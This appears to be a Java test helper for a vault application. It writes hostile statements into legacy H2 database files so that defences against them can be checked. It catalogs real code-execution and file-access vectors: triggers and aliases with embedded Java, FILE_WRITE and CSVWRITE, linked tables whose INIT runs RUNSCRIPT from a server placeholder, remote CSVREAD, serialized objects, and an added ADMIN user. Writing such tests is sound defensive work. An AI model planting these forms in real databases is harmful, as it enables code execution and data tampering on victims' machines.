package org.careletter.vault.old;

import java.nio.file.Path;
import java.sql.SQLException;
import java.util.List;
import java.util.Properties;

/// Forms in which a database file of formats 1 to 3 can carry code, or lead the engine elsewhere.
/// The engine runs some of them as soon as it opens the file, others once a row is read or written.
final class HostileForms {

    private static final String SOURCE =
            "'org.h2.api.Trigger create() {"
                    + " return (connection, before, after) ->"
                    + " new java.io.File(\"{folder}/fired\").mkdir(); }'";

    private static final String WRITES = "FILE_WRITE('x', '{file}')";

    /// An address of a database in memory that does something when it is opened.
    private static final String LINK = "'', 'jdbc:h2:mem:;INIT=%s', 'sa', ''";

    private static final String ADD = "ALTER TABLE PLAN ADD COLUMN MORE ";

    private HostileForms() {}

    /// One of them: what is put to the engine to get it into a file, a statement on each line.
    enum Form {
        TRIGGER_BEFORE_INSERT(
                "CREATE TRIGGER T BEFORE INSERT, UPDATE ON PLAN FOR EACH ROW AS " + SOURCE),
        TRIGGER_BEFORE_SELECT("CREATE TRIGGER T BEFORE SELECT ON PLAN AS " + SOURCE),
        TRIGGER_BEFORE_INSERT_OF_RECORDS(
                "CREATE TRIGGER T BEFORE INSERT, UPDATE ON RECORD FOR EACH ROW AS " + SOURCE),
        TRIGGER_BEFORE_SELECT_OF_RECORDS("CREATE TRIGGER T BEFORE SELECT ON RECORD AS " + SOURCE),
        TRIGGER_CLASS(
                "CREATE FORCE TRIGGER T BEFORE SELECT ON PLAN"
                        + " CALL 'org.careletter.vault.old.Probes$Tripwire'"),
        LINK_THAT_WRITES(linked("CALL FILE_WRITE(''x'', ''{file}'')")),
        LINK_THAT_RUNS_A_SCRIPT(linked("RUNSCRIPT FROM ''{server}/x.sql''")),
        LINKED_SCHEMA(
                "CREATE SCHEMA S",
                "CALL LINK_SCHEMA('S', "
                        + LINK.formatted(
                                "CREATE TABLE IF NOT EXISTS T(ID INT)\\;"
                                        + "CALL FILE_WRITE(''x'', ''{file}'')")
                        + ", 'PUBLIC')"),
        KEY_INTO_ANOTHER_TABLE(
                "ALTER TABLE SUMMARY ADD CONSTRAINT K FOREIGN KEY (ID) REFERENCES PLAN(ID)"
                        + " ON DELETE CASCADE"),
        CHECK_THAT_WRITES(check(WRITES)),
        CHECK_THAT_READS_ELSEWHERE(check("LENGTH(FILE_READ('{server}/x', NULL))")),
        CHECK_THAT_WRITES_A_TABLE(check("CSVWRITE('{file}', 'SELECT * FROM PLAN')")),
        GENERATED_COLUMN(ADD + "BIGINT GENERATED ALWAYS AS (" + WRITES + ")"),
        INDEX_OF_A_GENERATED_COLUMN(
                ADD + "BIGINT GENERATED ALWAYS AS (REVISION + " + WRITES + ")",
                "CREATE INDEX I ON PLAN(MORE)"),
        ON_UPDATE(ADD + "BIGINT DEFAULT 1 ON UPDATE " + WRITES),
        DEFAULT_THAT_WRITES(ADD + "BIGINT DEFAULT " + WRITES),
        DEFAULT_OF_A_DOMAIN("CREATE DOMAIN D AS BIGINT DEFAULT " + WRITES, ADD + "D"),
        CHECK_OF_A_DOMAIN(
                "CREATE DOMAIN D AS BIGINT CHECK (VALUE + " + WRITES + " > 0)",
                ADD + "D DEFAULT 1"),
        DEFAULT_OF_A_SEQUENCE("CREATE SEQUENCE Q", ADD + "BIGINT DEFAULT NEXT VALUE FOR Q"),
        DEFAULT_JAVA_OBJECT(
                ADD
                        + "JAVA_OBJECT DEFAULT CAST(X'aced00057372000e6a6176612e6e65742e55524c' AS"
                        + " JAVA_OBJECT)"),
        ALIAS_SOURCE(alias()),
        ALIAS_IN_A_DEFAULT(alias(), ADD + "BIGINT DEFAULT A()"),
        ALIAS_IN_A_CONSTANT(alias(), "CREATE CONSTANT C VALUE A()"),
        ALIAS_CLASS("CREATE FORCE ALIAS A FOR 'org.careletter.vault.old.Probes.called'"),
        AGGREGATE_CLASS("CREATE FORCE AGGREGATE A FOR 'org.careletter.vault.old.Probes$Sum'"),
        CONSTANT("CREATE CONSTANT C VALUE " + WRITES),
        VIEW("CREATE VIEW V AS SELECT ID, " + WRITES + " AS N FROM PLAN"),
        VIEW_IN_PLACE_OF_A_TABLE(
                "ALTER TABLE PLAN RENAME TO HIDDEN",
                "CREATE VIEW PLAN AS SELECT ID, REVISION, SEALED FROM HIDDEN WHERE "
                        + WRITES
                        + " > 0"),
        VIEW_OF_ANOTHER_FILE("CREATE FORCE VIEW V AS SELECT * FROM CSVREAD('{server}/x.csv')"),
        MATERIALIZED_VIEW("CREATE MATERIALIZED VIEW V AS SELECT ID, " + WRITES + " AS N FROM PLAN"),
        INDEX("CREATE INDEX I ON PLAN(REVISION)"),
        TABLE_ENGINE("CREATE TABLE E(ID INT) ENGINE \"org.careletter.vault.old.Probes$Engine\""),
        ENGINE_OF_A_SCHEMA("CREATE SCHEMA S WITH \"org.careletter.vault.old.Probes$Engine\""),
        SYNONYM("CREATE SYNONYM S FOR PLAN"),
        SYNONYM_IN_PLACE_OF_A_TABLE(
                "ALTER TABLE PLAN RENAME TO HIDDEN", "CREATE SYNONYM PLAN FOR HIDDEN"),
        FURTHER_USER("CREATE USER OTHER PASSWORD 'other' ADMIN"),
        SETTINGS("SET MODE Oracle", "SET MAX_MEMORY_ROWS 1", "SET IGNORECASE TRUE");

        private final String statements;

        Form(String... statements) {
            this.statements = String.join("\n", statements);
        }
    }

    private static String linked(String init) {
        return "CREATE FORCE LINKED TABLE L(" + LINK.formatted(init) + ", 'T')";
    }

    private static String check(String call) {
        return "ALTER TABLE PLAN ADD CONSTRAINT C CHECK (" + call + " >= 0) NOCHECK";
    }

    private static String alias() {
        return "CREATE ALIAS A AS 'long a() { new java.io.File(\"{folder}/called\").mkdir();"
                + " return 1; }'";
    }

    /// Puts a form into a database file. What it does meanwhile is forgotten by the probes.
    ///
    /// @param databaseWithoutSuffix the file, without `.mv.db`
    static void apply(Path databaseWithoutSuffix, Form form, Probes probes) throws Exception {
        var statements = form.statements.lines().map(probes::filledInto).toList();
        if (form == Form.TABLE_ENGINE) {
            HostileChild.execute(databaseWithoutSuffix, statements);
        } else {
            execute(databaseWithoutSuffix, statements);
        }
        probes.forget();
    }

    /// Puts statements to the engine.
    static void execute(Path databaseWithoutSuffix, List<String> statements) throws SQLException {
        var url = "jdbc:h2:file:" + databaseWithoutSuffix;
        try (var connection = new org.h2.Driver().connect(url, new Properties());
                var statement = connection.createStatement()) {
            for (String each : statements) {
                statement.execute(each);
            }
        }
    }
}
